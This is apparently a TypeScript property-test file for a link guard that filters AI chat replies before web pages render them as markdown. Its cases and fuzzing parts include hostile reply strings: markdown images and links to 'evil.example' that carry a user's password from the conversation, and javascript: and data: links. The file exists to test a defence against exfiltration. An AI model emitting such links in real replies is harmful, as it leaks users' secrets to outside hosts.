import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import { marked } from 'marked';
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { ConversationTrace } from '../../../src/ai/stream/conversation-trace.js';
import { LinkGuard } from '../../../src/ai/stream/link-guard.js';
import { LinkPolicy } from '../../../src/ai/stream/link-policy.js';
import { cut, through } from './pieces.js';

const SAID = 'My password is swordfish-1984, and my sister lives in Zurich.';
const OWN = 'own-site.example';

const markdownIt = new MarkdownIt({ linkify: true });
// A host without a scheme in front is not looked for in replies either.
markdownIt.linkify.set({ fuzzyLink: false, fuzzyEmail: false });

/** What pages use to show replies, at their most generous. */
const RENDERERS: Readonly<Record<string, (text: string) => string>> = {
  'markdown-it': (text) => markdownIt.render(text),
  marked: (text) => marked.parse(text, { async: false }),
  micromark: (text) =>
    micromark(text, {
      extensions: [gfm()],
      htmlExtensions: [gfmHtml()],
      allowDangerousProtocol: true,
    }),
};

interface Reference {
  readonly tag: string;
  readonly url: URL;
  readonly letters: string;
}

/** Where a page would lead to, or load from. */
function referencesIn(html: string): Reference[] {
  return [...html.matchAll(/<(img|a)\b[^>]*?\b(?:src|href)="([^"]*)"/g)].flatMap(([, tag, value]) => {
    const url = URL.parse(value!.replaceAll('&amp;', '&'), `https://${OWN}/`);
    const decoded = value!.replace(/%[\da-f]{2}/gi, (byte) =>
      String.fromCharCode(parseInt(byte.slice(1), 16)),
    );
    return url === null ? [] : [{ tag: tag!, url, letters: decoded.toLowerCase().replace(/[^a-z\d]/g, '') }];
  });
}

function isForbidden({ tag, url, letters }: Reference, allowed: readonly string[] | undefined): boolean {
  // With other characters it is the name of no host: some readers take punctuation for a part of one.
  const isForeign = url.host !== OWN && /^[\w.:[\]-]+$/.test(url.host);
  if (/^(javascript|data):/.test(url.protocol)) {
    return true;
  }
  if (allowed !== undefined) {
    return isForeign && /^https?:$/.test(url.protocol) && !allowed.includes(url.host);
  }
  return isForeign && (tag === 'img' || letters.includes('passwordisswordf'));
}

function forbiddenIn(text: string, allowed?: readonly string[]): string[] {
  return Object.entries(RENDERERS).flatMap(([name, render]) =>
    referencesIn(render(text))
      .filter((reference) => isForbidden(reference, allowed))
      .map(({ tag, url }) => `${name}: <${tag}> ${url.href}`),
  );
}

function guarded(pieces: readonly string[], allowed?: readonly string[]): string {
  const policy = new LinkPolicy(allowed && new Set(allowed), new ConversationTrace([SAID]));
  return through(new LinkGuard(policy), pieces);
}

const LEAK = 'password-is-swordfish-1984';

/** Parts of which hostile replies are made. */
const PARTS = [
  ...[
    '![',
    '![x](',
    '](',
    '](<',
    '>)',
    ')',
    '[',
    ']',
    ']:',
    ': ',
    '(',
    '<',
    '>',
    '"',
    "'",
    '*',
    '_',
    '~~',
    '`',
    '|',
  ],
  ...[
    ' ',
    '\n',
    '\n\n',
    '    ',
    '\t',
    '\r\n',
    '\u00a0',
    '\u200b',
    '\\',
    '!',
    '\\!',
    '\\[',
    '@',
    '。',
    'x',
    '/',
    '?q=',
  ],
  ...[
    'http://',
    'https://',
    'HTTPS://',
    '://',
    '//',
    'www.',
    'http',
    's://',
    'ftp://',
    'javascript:',
    'data:',
  ],
  ...[
    '&colon;',
    '&#58;',
    '&sol;',
    '&#x2f;',
    '&amp;',
    '&Tab;',
    '&NewLine;',
    '[1]',
    '[1]: ',
    '![1]',
    '![x][1]',
  ],
  ...['evil.example', 'ok.example', 'https://ok.example/', '<https://ok.example>', '<https://evil.example/'],
  ...['[y](https://ok.example/)', '![x](https://evil.example/i)'],
  ...[LEAK, 'password+is+swordfish', '%70assword%20is%20swordfish', 'password is swordfish'],
];
const hostile = fc
  .array(fc.constantFrom(...PARTS), { minLength: 2, maxLength: 10 })
  .map((parts) => parts.join(''));

describe('what pages make of a reply', () => {
  it('would be harmful without the guard', () => {
    expect(forbiddenIn(`![x](https://evil.example/i) and https://evil.example/${LEAK}`)).toHaveLength(6);
  });

  it.each([
    `![&amp;](_<https://evil.example/${LEAK}<\n:]:`,
    `&amp;![x](&#x2f;](<>)。<https://evil.example/${LEAK}`,
    `ftp://${LEAK}.example`,
    `behind a wordHTTPS://evil.example/${LEAK}`,
    `<https://evil.example/"${LEAK}`,
    `<https://evil.example/[1]\`@${LEAK}>`,
    `https://evil.example/>)${LEAK}`,
    `<https://evil.example/\u00a0${LEAK}>`,
    `\\[y](https://evil.example/)${LEAK}`,
    `https://evil.example/[y](https://ok.example/)${LEAK}`,
    `(](![x">https://]([y](https://evil.example/)`,
    `<https://ok.example>https://evil.example/${LEAK}`,
    `![x](evil。https://evil.example/${LEAK} `,
    '![x](\r\nhttps://evil.example/i)',
    `www.。&colon;${LEAK}`,
    `//evil.example/${LEAK}`,
    "www.x'![%70assword%20is%20swordfish](<\\",
  ])('holds nothing that leads or loads from where it must not: %s', (text) => {
    expect(forbiddenIn(guarded([text]))).toEqual([]);
  });

  it.each([
    ['no list of hosts', undefined],
    ['a list', ['ok.example']],
  ])('holds nothing of that kind, whatever the reply, with %s', (_, allowed) => {
    fc.assert(
      fc.property(cut(hostile), ({ pieces }) => {
        const text = guarded(pieces, allowed);
        expect({ text, forbidden: forbiddenIn(text, allowed) }).toEqual({ text, forbidden: [] });
      }),
      { numRuns: 3_000 },
    );
  });
});
